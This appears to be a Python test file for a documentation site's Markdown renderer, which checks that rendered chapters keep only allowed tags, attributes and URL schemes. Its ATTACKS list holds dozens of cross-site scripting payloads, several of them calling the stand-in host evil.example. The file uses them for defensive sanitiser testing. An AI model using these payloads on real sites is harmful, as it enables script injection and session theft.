"""Markdown that slips past the check still gives harmless HTML: the renderer refuses it again."""

from __future__ import annotations

import re
from functools import cache
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from catalog.model.text import Lang
from catalog.views.markdown import Kept, Renderer
from catalog.views.terms import Lexicon
from tests.people_and_places import term
from tests.site import reading

_TAGS = {
    *("p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "dl", "dt", "dd"),
    *("strong", "em", "del", "code", "pre", "blockquote", "a", "img", "sup", "sub", "abbr"),
    *("table", "thead", "tbody", "tr", "th", "td", "div", "span", "details", "summary"),
}
_ATTRIBUTES = {"href", "title", "class", "src", "alt", "start", "align", "open", "id"}
# What the renderer itself may set for tables that scroll.
_OWN_ATTRIBUTES = {"tabindex", "role", "aria-label", "scope"}
_SCHEMES = {"", "http", "https", "tel"}
_TRIMMED = "".join(map(chr, range(0x21)))

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "x <img src=x onerror=alert(1)> y",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<div markdown='1' onclick='alert(1)'>x</div>",
    "<style>@import '//evil.example'</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](a.png "onload=alert(1)")',
    "<javascript:alert(1)>",
    "## x {: onclick=alert(1) }",
    "x{: style='position:fixed' onmouseover=alert(1) }",
    "```{onclick=alert(1)}\nx\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '!!! note"><script>alert(1)</script>\n    x',
    '??? note "<script>alert(1)</script>"\n    x',
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <script>\n  alert(1)</script>",
    "*[x]: <script>alert(1)</script>\n\nx",
    "</article></main><script>alert(1)</script>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    '0827-0000100"><script>alert(1)</script>',
]


@cache
def _renderer() -> Renderer:
    return Renderer(r"0827-0000\d{3}")


def rendered(text: str) -> str:
    """The HTML of a chapter's text, cleaned."""
    return _renderer().render(text).html


def harm(html: str) -> list[str]:
    """What in `html` could run, load, or look like something else than a chapter."""
    found = []
    for element in reading.parse(html).all():
        if element.tag not in _TAGS:
            found.append(element.tag)
        for name, value in element.attributes.items():
            if name not in _ATTRIBUTES | _OWN_ATTRIBUTES:
                found.append(f"{element.tag} {name}")
            plain = re.sub(r"[\t\n\r]", "", value.strip(_TRIMMED))  # as a browser reads it
            if name in ("href", "src") and urlsplit(plain).scheme not in _SCHEMES:
                found.append(f"{element.tag} {name}={value}")
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_harmless(attack: str) -> None:
    """Alone, and in the middle of a text."""
    for text in (attack, f"before\n\n{attack}\n\nafter", f"- one\n- {attack}\n"):
        assert harm(rendered(text)) == []


@given(st.lists(st.sampled_from([*ATTACKS, "\n", "\n\n", "    ", "`", "*", "_", "|", "> ", "## "])))
def test_attacks_together_are_harmless(parts: list[str]) -> None:
    """In any order, joined in any way."""
    assert harm(rendered("".join(parts))) == []


@given(st.text(alphabet="<>&\"'`[](){}:/=*_#|!\\ \n\tscriptonerahjv0é字\x00\x02\x03", max_size=200))
def test_any_text_is_harmless(text: str) -> None:
    """Whatever is typed."""
    assert harm(rendered(text)) == []


def test_what_a_chapter_needs_is_kept() -> None:
    """Headings with ids, lists, tables with alignment, links, pictures, boxes, folds, numbers."""
    html = rendered(
        "## 安全用电\n\n**先**断电，*再*动手。`220 V`\n\n1. 一\n2. 二\n\n"
        "| 量 | 值 |\n|---|--:|\n| 电压 | 220 |\n\n[下一章](next.md) ![图](a.svg)\n\n"
        '!!! warning "当心"\n    有电。\n\n??? note "答案"\n    断电。\n'
    )
    tags = {element.tag for element in reading.parse(html).all()}
    assert tags >= {"h2", "strong", "em", "code", "ol", "table", "a", "img", "div", "details"}
    assert '<h2 id="安全用电">' in html
    assert 'align="right"' in html
    assert 'class="admonition warning"' in html


def test_raw_html_is_shown_as_text() -> None:
    """The reader sees what the author typed, within a line and as a block."""
    for text in ("see <script>x</script>", "<div>\nx\n</div>", "<!-- x -->"):
        assert reading.parse(rendered(text)).text == " ".join(text.split())


def test_steps_below_a_list_with_bullets_keep_their_numbers() -> None:
    """One list ends where the next begins; steps go on with the number that is written."""
    html = rendered("- 焊枪\n- 地线夹\n\n1. 断电\n2. 接线\n\n然后：\n\n3. 送电\n")
    assert html.replace("\n", "") == (
        "<ul><li>焊枪</li><li>地线夹</li></ul><ol><li>断电</li><li>接线</li></ol>"
        '<p>然后：</p><ol start="3"><li>送电</li></ol>'
    )


def test_sections_have_ids_and_words() -> None:
    """In order, those of the second level; the words are plain."""
    made = _renderer().render("## 一 & *二*\n\n### 三\n\n## 一 & *二*\n")
    assert made.headings == (("一--二", "一 & 二"), ("一--二_1", "一 & 二"))


def test_links_and_pictures_get_their_way() -> None:
    """From the page, whatever it is; a number that calls stays."""

    def way(name: str) -> str:
        return name if ":" in name else f"x/{name}"

    made = _renderer().render("[a](b.md) ![c](d.svg) 0827-0000101", way)
    assert 'href="x/b.md"' in made.html
    assert 'src="x/d.svg"' in made.html
    assert '<a class="tel" href="tel:08270000101">0827-0000101</a>' in made.html


def test_what_is_kept_is_not_rendered_again() -> None:
    """As long as the page, the text, the numbers and the terms are the same."""
    kept: Kept = {}
    lexicon = Lexicon((term(),), Lang.ZH)
    first = Renderer("110", kept).render_once("灶台", "a/", str, lexicon)
    assert first == Renderer("110").render("灶台", str, lexicon)
    again = Lexicon((term(line=9),), Lang.ZH)
    assert Renderer("110", kept).render_once("灶台", "a/", str, again) is first
    others = [
        Renderer("120", kept).render_once("灶台", "a/", str, lexicon),
        Renderer("110", kept).render_once("灶", "a/", str, lexicon),
        Renderer("110", kept).render_once("灶台", "b/", str, lexicon),
        Renderer("110", kept).render_once("灶台", "a/", str, None),
        Renderer("110", kept).render_once("灶台", "a/", str, Lexicon((), Lang.ZH)),
    ]
    assert all(other is not first for other in others)
    assert len(kept) == 6
